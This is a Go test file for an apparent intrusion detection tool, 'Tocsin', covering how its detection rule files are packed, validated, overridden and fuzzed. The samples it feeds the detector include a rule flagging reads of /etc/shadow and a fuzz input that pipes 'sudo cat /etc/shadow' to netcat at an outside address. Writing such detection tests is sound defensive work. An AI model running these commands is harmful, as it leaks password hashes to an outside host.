package action

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tocsin-ids/tocsin"
	"github.com/tocsin-ids/tocsin/decode"
	"github.com/tocsin-ids/tocsin/rules"
)

var update = flag.Bool("update", false, "pack the knowledge anew")

// own is Tocsin's own knowledge, compiled once for all tests.
var own = func() *Knowledge {
	k, _ := NewKnowledge(OwnKnowledge()...)
	return k
}()

func knowledgeFiles(t *testing.T) []KnowledgeFile {
	t.Helper()
	paths, err := filepath.Glob("knowledge/*" + KnowledgeEnd)
	if err != nil || len(paths) == 0 {
		t.Fatal("no files of knowledge", err)
	}
	var files []KnowledgeFile
	for _, p := range paths {
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, KnowledgeFile{Path: "builtin/" + filepath.Base(p), Data: data})
	}
	return files
}

func TestPacked(t *testing.T) {
	want := knowledgeFiles(t)
	if *update {
		if err := os.WriteFile("knowledge.bin", rules.Pack(want), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	got := OwnKnowledge()
	if len(got) != len(want) {
		t.Fatalf("%d files are embedded, %d are in the folder: run go test ./action -run TestPacked -update", len(got), len(want))
	}
	for i := range want {
		if got[i].Path != want[i].Path || !bytes.Equal(got[i].Data, want[i].Data) {
			t.Errorf("%s differs from what is embedded: run go test ./action -run TestPacked -update", want[i].Path)
		}
	}
}

// TestKnowledgeSamples runs the samples of all rows: each has one that it must tell and one that it must not.
func TestKnowledgeSamples(t *testing.T) {
	k, faults := NewKnowledge(knowledgeFiles(t)...)
	for _, f := range faults {
		t.Error(f)
	}
	trial := k.Test(func(*tocsin.Rule) bool { return true }, decodeSample)
	for _, f := range trial.Failures {
		t.Error(f)
	}
	for _, r := range trial.Untested {
		t.Errorf("%s:%d: %s lacks a sample that it tells or one that it does not", r.File, r.Line, r.ID)
	}
	ids := map[string]bool{}
	for _, r := range k.rows {
		ids[r.id] = true
	}
	lines := 0
	for _, f := range knowledgeFiles(t) {
		lines += bytes.Count(f.Data, []byte("\nid: "))
		if bytes.HasPrefix(f.Data, []byte("id: ")) {
			lines++
		}
	}
	if len(ids) != lines {
		t.Errorf("%d rows of %d: an id stands in two files", len(ids), lines)
	}
	t.Logf("%d rows: %s", len(k.Rules()), trial)
	for f, name := range findingNames {
		if k.events[f] == nil {
			t.Errorf("no row says what %s means", name)
		}
	}
}

func decodeSample(name string, data []byte, emit func(*tocsin.Event)) error {
	return decode.All(name, data, time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC), emit)
}

// TestKnowledgeFaults holds that what is wrong with a file of rows is told with its line and what to do, and costs nothing
// but the row.
func TestKnowledgeFaults(t *testing.T) {
	const good = "id: good\ntitle: Good\nname: goodtool\nmeans: run execution T1059 low\nwhy: x\n\n"
	for _, c := range []struct {
		text, want string
		line       int64
	}{
		{"id: a b\ntitle: A\nname: x\nmeans: run - - low\nwhy: x", `id "a b"`, 7},
		{"title: A\nname: x\nmeans: run - - low\nwhy: x", "without an id", 7},
		{"id: a\nname: x\nmeans: run - - low", "without title or why", 7},
		{"id: a\ntitle: A\nname: x\nwhy: x", "without means", 7},
		{"id: a\ntitle: A\nmeans: run - - low\nwhy: x", "looks for nothing", 7},
		{"id: a\ntitle: A\nhas: x\nmeans: run - - low\nwhy: x", "without names", 7},
		{"id: a\ntitle: A\non: nowhere\nhas: x\nmeans: run - - low\nwhy: x", `"nowhere" is no text`, 9},
		{"id: a\ntitle: A\nname: x\nmeans: jump - - low\nwhy: x", `"jump" is no verb`, 10},
		{"id: a\ntitle: A\nname: x\nmeans: run - T10 low\nwhy: x", `"T10" is no id`, 10},
		{"id: a\ntitle: A\nname: x\nmeans: run - - loud\nwhy: x", "unknown level", 10},
		{"id: a\ntitle: A\nname: x\nmeans: run low\nwhy: x", "2 words, want 4", 10},
		{"id: a\ntitle: A\nname: x\nhas: \"x\nmeans: run - - low\nwhy: x", "not closed", 10},
		{"id: a\ntitle: A\nname: x\nhas: x | | y\nmeans: run - - low\nwhy: x", "without words", 10},
		{"id: a\ntitle: A\nname: x\nargs: round\nmeans: run - - low\nwhy: x", `no shape "round"`, 10},
		{"id: a\ntitle: A\nname: x\nexcept: nolist\nmeans: run - - low\nwhy: x", "no list nolist", 7},
		{"id: a\ntitle: A\non: event\nname: nothing-such\nmeans: run - - low\nwhy: x", "nothing that is found", 7},
		{"id: a\ntitle: A\non: alert\nhas: x\nargs: none\nmeans: run - - low\nwhy: x", "are of commands", 7},
		{"id: a\nid: b\ntitle: A\nname: x\nmeans: run - - low\nwhy: x", "stands there twice", 8},
		{"id: good\ntitle: A\nname: x\nmeans: run - - low\nwhy: x", "is taken by line 1", 7},
		{"id: a\ntitle: A\nname: goodtool\nmeans: run - - low\nwhy: x", "is named by row good", 7},
		{"id: a\ntitle:\nname: x\nmeans: run - - low\nwhy: x", "says nothing", 8},
		{"colour: red", `"colour" is no key`, 7},
		{"  and more", "goes on with nothing", 7},
	} {
		k, faults := NewKnowledge(KnowledgeFile{Path: "x.knowledge", Data: []byte(good + c.text + "\n")})
		if len(faults) != 1 || !strings.Contains(faults[0].Error(), c.want) || faults[0].Line != c.line || faults[0].Hint == "" || faults[0].Source != "x.knowledge" {
			t.Errorf("%q\n  gives %v, want %q in line %d", c.text, faults, c.want, c.line)
		}
		if len(k.Rules()) != 1 || k.Rules()[0].ID != "good" {
			t.Errorf("%q: costs another row: %d are left", c.text, len(k.Rules()))
		}
	}
}

// TestKnowledgeOver holds that a later file adds, replaces and removes rows, and that its own are looked at first.
func TestKnowledgeOver(t *testing.T) {
	const mine = "id: port-scanner\noff: yes\n\nid: whoami-here\ntitle: Asked for here\nname: whoami\nmeans: list discovery T1033 high\nwhy: x\n\n" +
		"id: secret-shadow\ntitle: Ours\non: argument\nhas: /etc/shadow\nmeans: read credential-access T1003.008 high\nwhy: x\n"
	k, faults := NewKnowledge(append(OwnKnowledge(), KnowledgeFile{Path: "mine.knowledge", Data: []byte(mine)})...)
	if len(faults) > 0 {
		t.Fatal(faults)
	}
	for line, want := range map[string]string{"nmap -h": "", "whoami": "whoami-here", "cat /etc/shadow": "secret-shadow", "last": "who-am-i"} {
		m := readCommand(line, posix, nil, &masker{know: k})[0]
		id := ""
		if m.Row != nil {
			id = m.Row.ID
		}
		if id != want || (want == "secret-shadow" || want == "whoami-here") != (m.Level == tocsin.High) {
			t.Errorf("%s is told by %q, %s; want %q", line, id, m.Level, want)
		}
	}
	if n, all := len(k.Rules()), len(own.Rules()); n != all {
		t.Errorf("%d rows, want %d: one less, one more", n, all)
	}
}

// FuzzKnowledge: whatever a file of rows holds, it is read in bounded time, and what comes of it can be used.
func FuzzKnowledge(f *testing.F) {
	for _, x := range OwnKnowledge() {
		f.Add(x.Data[:min(len(x.Data), 2000)])
	}
	f.Add([]byte("id: a\nhas: \"\\x\" ^ $ | ^\"a\"$\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		k, _ := NewKnowledge(KnowledgeFile{Path: "x.knowledge", Data: data})
		r := NewReader(nil, k)
		k.Test(func(*tocsin.Rule) bool { return true }, func(string, []byte, func(*tocsin.Event)) error { return nil })
		readCommand("sudo cat /etc/shadow | nc 203.0.113.9 80", anyShell, nil, &masker{know: k})
		ev := &tocsin.Event{Sources: []tocsin.LogSource{{Product: "alert"}}, Fields: []tocsin.Field{{Name: "name", Value: "x"}}}
		r.Read(ev, nil, func(*tocsin.Action) {})
	})
}
